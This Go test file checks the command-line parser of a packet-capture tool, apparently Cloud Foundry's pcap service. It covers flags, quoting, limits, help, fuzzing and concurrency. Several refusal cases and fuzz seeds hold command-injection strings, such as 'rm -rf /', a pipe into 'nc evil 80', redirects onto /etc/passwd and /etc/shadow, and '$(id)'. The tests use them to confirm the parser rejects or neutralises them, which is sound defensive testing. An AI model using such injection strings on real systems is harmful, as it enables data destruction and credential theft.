package capturecmd

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"code.cloudfoundry.org/pcap/tunnel/agentproto"
)

// defaults is what every accepted request carries unless a case says
// otherwise.
func defaults(targets ...string) Request {
	return Request{
		Targets:    targets,
		Process:    "web",
		Interfaces: []string{"eth0"},
		Snaplen:    agentproto.DefaultSnaplen,
		Format:     FormatPcapng,
	}
}

func TestParseCommandAccepts(t *testing.T) {
	with := func(r Request, f func(*Request)) Request { f(&r); return r }
	cases := []struct {
		name string
		line string
		want Request
	}{
		{"one target", "capture lab", defaults("lab")},
		{"single quotes keep spaces", `capture -f 'udp port 53' lab`,
			with(defaults("lab"), func(r *Request) { r.Filter = "udp port 53" })},
		{"double quotes with escaped quotes", `capture -f "ip and \"x\"" lab`,
			with(defaults("lab"), func(r *Request) { r.Filter = `ip and "x"` })},
		{"apostrophe inside double quotes", `capture -f "it's" lab`,
			with(defaults("lab"), func(r *Request) { r.Filter = "it's" })},
		{"escaped space joins words", `capture -f udp\ port\ 53 lab`,
			with(defaults("lab"), func(r *Request) { r.Filter = "udp port 53" })},
		{"command substitution stays literal", `capture -f '$(id)' lab`,
			with(defaults("lab"), func(r *Request) { r.Filter = "$(id)" })},
		{"unquoted $(…) stays literal", `capture $(id) lab`, defaults("$(id)", "lab")},
		{"backticks stay literal", "capture `id` lab", defaults("`id`", "lab")},
		{"variables are not expanded", `capture $HOME ${PATH}`, defaults("$HOME", "${PATH}")},
		{"quoted shell operators are literal", `capture 'lab;x' "lab|y" 'a&&b'`, defaults("lab;x", "lab|y", "a&&b")},
		{"a hash is no comment", `capture lab # note`, defaults("lab", "#", "note")},
		{"newline separates words", "capture lab\nweb", defaults("lab", "web")},
		{"targets with index and address", "capture lab/0 lab/10.0.0.5:9494", defaults("lab/0", "lab/10.0.0.5:9494")},
		{"every capture flag", "capture -i eth0 -i eth1 -i lo -f 'tcp port 80' -s 128 --duration 90s -c 5 --max-bytes 1000 --format pcap --progress lab",
			with(defaults("lab"), func(r *Request) {
				r.Interfaces = []string{"eth0", "eth1", "lo"}
				r.Filter = "tcp port 80"
				r.Snaplen = 128
				r.Limits = agentproto.Limits{Duration: 90 * time.Second, Packets: 5, Bytes: 1000}
				r.Format = FormatPcap
				r.Progress = true
			})},
		{"long forms and = values", "capture --filter=udp --snaplen=1 --count=3 lab",
			with(defaults("lab"), func(r *Request) { r.Filter, r.Snaplen, r.Limits.Packets = "udp", 1, 3 })},
		{"flags after targets", "capture lab web -f 'udp port 7000' -c 5 --progress",
			with(defaults("lab", "web"), func(r *Request) { r.Filter, r.Limits.Packets, r.Progress = "udp port 7000", 5, true })},
		{"flags between targets", "capture lab -s 96 web",
			with(defaults("lab", "web"), func(r *Request) { r.Snaplen = 96 })},
		{"-- ends the flags", "capture -c 1 -- lab -x",
			with(defaults("lab", "-x"), func(r *Request) { r.Limits.Packets = 1 })},
		{"a flag value may start with a dash", "capture -f -x lab",
			with(defaults("lab"), func(r *Request) { r.Filter = "-x" })},
		{"a flag value may be --help", "capture -f --help lab",
			with(defaults("lab"), func(r *Request) { r.Filter = "--help" })},
		{"after -- even --help is a target", "capture -- --help", defaults("--help")},
		{"snaplen at the maximum", "capture -s 262144 lab",
			with(defaults("lab"), func(r *Request) { r.Snaplen = agentproto.MaxSnaplen })},
		{"cf selection", "capture --app 6f1c --type worker --instance 0,2,5",
			with(defaults(), func(r *Request) { r.App, r.Process, r.Instances = "6f1c", "worker", []int{0, 2, 5} })},
		{"instance list with spaces", `capture --app a --instance " 1 , 2"`,
			with(defaults(), func(r *Request) { r.App, r.Instances = "a", []int{1, 2} })},
		{"instance at the maximum", "capture --app a --instance 100000",
			with(defaults(), func(r *Request) { r.App, r.Instances = "a", []int{100000} })},
		{"bosh deployment", "capture -d cf router",
			with(defaults("router"), func(r *Request) { r.Deployment = "cf" })},
		{"bosh whole deployment", "capture -d cf",
			with(defaults(), func(r *Request) { r.Deployment = "cf" })},
		{"bosh groups and a cf app", "capture -d cf router --app aa000000-0000-4000-8000-0000000000f1",
			with(defaults("router"), func(r *Request) { r.Deployment, r.App = "cf", "aa000000-0000-4000-8000-0000000000f1" })},
		{"help as a target is a target", "capture help", defaults("help")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var out bytes.Buffer
			got, err := ParseCommand(c.line, &out)
			if err != nil {
				t.Fatalf("ParseCommand(%q): %v", c.line, err)
			}
			if got.Targets == nil {
				got.Targets = []string{}
			}
			if c.want.Targets == nil {
				c.want.Targets = []string{}
			}
			if !reflect.DeepEqual(got, c.want) {
				t.Errorf("ParseCommand(%q)\n got  %+v\n want %+v", c.line, got, c.want)
			}
			if out.Len() != 0 {
				t.Errorf("wrote %q for an accepted command", out.String())
			}
			if err := got.Validate(); err != nil {
				t.Errorf("accepted request does not validate: %v", err)
			}
		})
	}
}

func TestParseCommandRefuses(t *testing.T) {
	cases := []struct {
		name string
		line string
		want string // the exact error text
	}{
		{"empty", "", `no command given; try "capture --help"`},
		{"blank", " \t ", `no command given; try "capture --help"`},
		{"unknown command", "tcpdump -i eth0", `unknown command "tcpdump"; the only command is "capture" (try "capture --help")`},
		{"command name is case sensitive", "Capture lab", `unknown command "Capture"; the only command is "capture" (try "capture --help")`},
		{"unknown long flag", "capture --bogus lab", "flag provided but not defined: -bogus"},
		{"unknown short flag", "capture -x lab", "flag provided but not defined: -x"},
		{"unknown flag after targets", "capture lab -x 1", "flag provided but not defined: -x"},
		{"short and long form of one flag", "capture -i eth0 --interface lo lab", "Cannot use two forms of the same flag: i interface"},
		{"semicolon", "capture lab; rm -rf /", "command line has a shell operator (;, &, |, <, >): nothing here runs a shell"},
		{"pipe", "capture lab | nc evil 80", "command line has a shell operator (;, &, |, <, >): nothing here runs a shell"},
		{"and", "capture lab && reboot", "command line has a shell operator (;, &, |, <, >): nothing here runs a shell"},
		{"background", "capture lab & x", "command line has a shell operator (;, &, |, <, >): nothing here runs a shell"},
		{"redirect out", "capture lab > /etc/passwd", "command line has a shell operator (;, &, |, <, >): nothing here runs a shell"},
		{"redirect in", "capture lab < /etc/shadow", "command line has a shell operator (;, &, |, <, >): nothing here runs a shell"},
		{"unterminated quote", "capture 'lab", "cannot split command line: invalid command line string"},
		{"unterminated double quote", `capture "lab`, "cannot split command line: invalid command line string"},
		{"escaped quote inside single quotes", `capture -f 'a\'b' lab`, "cannot split command line: invalid command line string"},
		{"NUL byte", "capture lab\x00; id", "command line contains a NUL byte"},
		{"huge line", "capture " + strings.Repeat("a", MaxCommandLen), "command line is 65544 bytes, at most 65536 are allowed"},
		{"snaplen 0", "capture -s 0 lab", "snaplen 0 is out of range 1..262144"},
		{"snaplen over the maximum", "capture -s 262145 lab", "snaplen 262145 is out of range 1..262144"},
		{"negative snaplen", "capture --snaplen -1 lab", "snaplen -1 is out of range 1..262144"},
		{"snaplen not a number", "capture -s big lab", `invalid value "big" for flag -s: parse error`},
		{"bad format", "capture --format json lab", `format "json" is not pcapng or pcap`},
		{"format is case sensitive", "capture --format PCAP lab", `format "PCAP" is not pcapng or pcap`},
		{"negative duration", "capture --duration -1s lab", "duration is negative"},
		{"duration without unit", "capture --duration 30 lab", `invalid value "30" for flag -duration: parse error`},
		{"count not a number", "capture -c many lab", `invalid value "many" for flag -c: parse error`},
		{"empty interface", "capture -i '' lab", "interface name is empty"},
		{"interface listed twice", "capture -i eth0 -i eth0 lab", `interface "eth0" is listed twice`},
		{"interface with a slash", "capture -i ../x lab", `interface name "../x" is not valid (letters, digits and _.:@- only)`},
		{"too many interfaces", "capture -i a -i b -i c -i d -i e -i f -i g -i h -i i lab", "9 interfaces asked for, at most 8 are allowed"},
		{"filter too long", "capture -f " + strings.Repeat("x", agentproto.MaxFilterLen+1) + " lab", "filter is 5001 characters, at most 5000 are allowed"},
		{"filter with a control character", "capture -f \"port\x01 80\" lab", "filter contains a control character or invalid UTF-8"},
		{"target with a space", `capture "lab 1"`, `target "lab 1" is not valid`},
		{"target with a tab", "capture 'a\tb'", `target "a\tb" is not valid`},
		{"empty target", `capture ''`, `target "" is not valid`},
		{"instance with an empty part", "capture --app a --instance 0,,2", `instance index "" is not a number 0..100000`},
		{"instance with a leading zero", "capture --app a --instance 01", `instance index "01" is not a number 0..100000`},
		{"negative instance", "capture --app a --instance -1", `instance index "-1" is not a number 0..100000`},
		{"instance over the maximum", "capture --app a --instance 100001", `instance index "100001" is not a number 0..100000`},
		{"instance not a number", "capture --app a --instance web", `instance index "web" is not a number 0..100000`},
		{"every problem at once", "capture -s 0 --format x -i '' --duration -2s -f \"a\x02\" --instance z ''",
			"instance index \"z\" is not a number 0..100000\n" +
				"interface name is empty\n" +
				"filter contains a control character or invalid UTF-8\n" +
				"snaplen 0 is out of range 1..262144\n" +
				"duration is negative\n" +
				"format \"x\" is not pcapng or pcap\n" +
				"target \"\" is not valid"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var out bytes.Buffer
			got, err := ParseCommand(c.line, &out)
			if err == nil {
				t.Fatalf("ParseCommand(%q) = %+v, want error %q", c.line, got, c.want)
			}
			if err.Error() != c.want {
				t.Errorf("ParseCommand(%q) error\n got  %q\n want %q", c.line, err, c.want)
			}
			if errors.Is(err, ErrHelp) {
				t.Errorf("refusal is ErrHelp")
			}
			if !reflect.DeepEqual(got, Request{}) {
				t.Errorf("refused command returned a request: %+v", got)
			}
		})
	}
}

func TestParseCommandTooManyTargets(t *testing.T) {
	line := "capture" + strings.Repeat(" t", MaxTargets+1)
	_, err := ParseCommand(line, &bytes.Buffer{})
	if err == nil || err.Error() != "1001 targets given, at most 1000 are allowed" {
		t.Errorf("error = %v, want the target count refused", err)
	}
	line = "capture" + strings.Repeat(" t", MaxTargets)
	if r, err := ParseCommand(line, &bytes.Buffer{}); err != nil || len(r.Targets) != MaxTargets {
		t.Errorf("%d targets: %d parsed, error %v", MaxTargets, len(r.Targets), err)
	}
}

func TestParseCommandLongestLine(t *testing.T) {
	// A line of exactly MaxCommandLen bytes, with the longest filter and
	// long targets, is accepted (and split in linear time).
	filter := strings.Repeat("port 80 or ", agentproto.MaxFilterLen/11)
	filter += strings.Repeat("x", agentproto.MaxFilterLen-len(filter))
	line := "capture -f '" + filter + "'"
	target := " " + strings.Repeat("t", 255)
	for len(line)+len(target) <= MaxCommandLen {
		line += target
	}
	line += " " + strings.Repeat("u", MaxCommandLen-len(line)-1)
	if len(line) != MaxCommandLen {
		t.Fatalf("test line is %d bytes", len(line))
	}
	r, err := ParseCommand(line, &bytes.Buffer{})
	if err != nil {
		t.Fatalf("longest line refused: %.200v", err)
	}
	if r.Filter != filter || len(r.Targets) != 237 {
		t.Errorf("filter of %d bytes and %d targets, want %d and 237", len(r.Filter), len(r.Targets), len(filter))
	}
}

func TestParseCommandRefusesLongWords(t *testing.T) {
	// The splitter takes time in the square of a word's length: a word
	// longer than any valid value is refused before splitting.
	for name, line := range map[string]string{
		"plain":               "capture " + strings.Repeat("t", maxWordLen+1),
		"single quoted":       "capture -f '" + strings.Repeat("a ", maxWordLen/2) + "'",
		"double quoted":       `capture -f "` + strings.Repeat(`a\"`, maxWordLen/3) + `"`,
		"escaped spaces":      "capture " + strings.Repeat(`a\ `, maxWordLen/3+1),
		"backticks":           "capture `" + strings.Repeat("a ", maxWordLen/2+1),
		"$(":                  "capture $(" + strings.Repeat("a ", maxWordLen/2+1),
		"stray )":             "capture a) " + strings.Repeat("a ", maxWordLen/2+1),
		"whole line, no word": strings.Repeat("capture ", MaxCommandLen/8),
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			_, err := ParseCommand(line, &bytes.Buffer{})
			if name == "whole line, no word" {
				// Many short words are fine (and refused for being no
				// targets, later).
				if err == nil || strings.Contains(err.Error(), "word longer") {
					t.Errorf("error = %.100v", err)
				}
				return
			}
			if err == nil || err.Error() != "command line has a word longer than 10000 bytes" {
				t.Errorf("error = %.100v, want the long word refused", err)
			}
			if d := time.Since(start); d > time.Second {
				t.Errorf("refusal took %v", d)
			}
		})
	}
}

func TestParseCommandHelp(t *testing.T) {
	for _, line := range []string{"capture --help", "capture -h", "capture lab --help", "capture -f x -h lab"} {
		t.Run(line, func(t *testing.T) {
			var out bytes.Buffer
			r, err := ParseCommand(line, &out)
			if !errors.Is(err, ErrHelp) {
				t.Fatalf("error = %v, want ErrHelp", err)
			}
			if !reflect.DeepEqual(r, Request{}) {
				t.Errorf("help returned a request: %+v", r)
			}
			usage := out.String()
			for _, want := range []string{
				"capture [flags] TARGET...",
				"--interface IFACE, -i IFACE",
				"--filter FILTER, -f FILTER",
				"--snaplen BYTES, -s BYTES",
				"--duration DURATION",
				"--count N, -c N",
				"--max-bytes BYTES",
				"--format FORMAT",
			} {
				if !strings.Contains(usage, want) {
					t.Errorf("usage lacks %q:\n%s", want, usage)
				}
			}
			if strings.Contains(usage, "COMMANDS:") {
				t.Errorf("usage lists a help command:\n%s", usage)
			}
		})
	}
}

func TestParseIndexes(t *testing.T) {
	got, err := ParseIndexes("3,0,3")
	if err != nil || !reflect.DeepEqual(got, []int{3, 0, 3}) {
		t.Errorf("ParseIndexes(3,0,3) = %v, %v", got, err)
	}
	for _, bad := range []string{"", ",", "1,", "+1", "0x1", "1.0", "1e3", "١"} {
		if got, err := ParseIndexes(bad); err == nil {
			t.Errorf("ParseIndexes(%q) = %v, want an error", bad, got)
		}
	}
}

func FuzzParseCommand(f *testing.F) {
	for _, s := range []string{
		"capture lab",
		`capture -f 'udp port 53' -i eth0 -i lo -s 96 --duration 5s -c 10 --max-bytes 99 --format pcap lab/0 lab/10.0.0.1:9494`,
		`capture --app g --instance 0,1 -t worker`,
		`capture -d cf router -f "tcp and \"x\""`,
		`capture -d cf router --app aa000000-0000-4000-8000-0000000000f1 --instance 0`,
		"capture lab; id", "capture `id`", "capture $(id)", "capture --help", "capture -- -x",
		"capture 'a", "capture lab -c", "capture -i", "capture \x00",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		var out bytes.Buffer
		r, err := ParseCommand(line, &out)
		switch {
		case errors.Is(err, ErrHelp):
			if out.Len() == 0 {
				t.Errorf("help with no usage for %q", line)
			}
		case err != nil:
			if err.Error() == "" {
				t.Errorf("empty error for %q", line)
			}
			if !reflect.DeepEqual(r, Request{}) {
				t.Errorf("refused %q but returned %+v", line, r)
			}
		default:
			if err := r.Validate(); err != nil {
				t.Errorf("accepted %q but it does not validate: %v", line, err)
			}
			if len(r.Interfaces) == 0 || r.Snaplen < 1 || r.Snaplen > agentproto.MaxSnaplen {
				t.Errorf("accepted %q with interfaces %v snaplen %d", line, r.Interfaces, r.Snaplen)
			}
			if out.Len() != 0 {
				t.Errorf("accepted %q but wrote %q", line, out.String())
			}
			probe := agentproto.CaptureRequest{Version: agentproto.ProtocolVersion, Target: agentproto.Target{Kind: agentproto.TargetHost},
				Interfaces: r.Interfaces, Filter: r.Filter, Snaplen: r.Snaplen, Limits: r.Limits}
			if err := probe.Normalize(); err != nil {
				t.Errorf("accepted %q but the agent would refuse it: %v", line, err)
			}
			// What a CLI would send for r is r again.
			if again, err := ParseCommand(r.Line(), io.Discard); err != nil || !reflect.DeepEqual(again, r) {
				t.Errorf("accepted %q as %+v, but its Line %q parses as %+v, %v", line, r, r.Line(), again, err)
			}
		}
	})
}

// TestParseCommandConcurrent: captures are parsed on many connections at
// once; under -race this finds shared state in the parser (urfave/cli's
// package-level help flag).
func TestParseCommandConcurrent(t *testing.T) {
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 20 {
				if _, err := ParseCommand(fmt.Sprintf("capture -c %d lab", i+1), io.Discard); err != nil {
					t.Error(err)
				}
			}
		}()
	}
	wg.Wait()
}
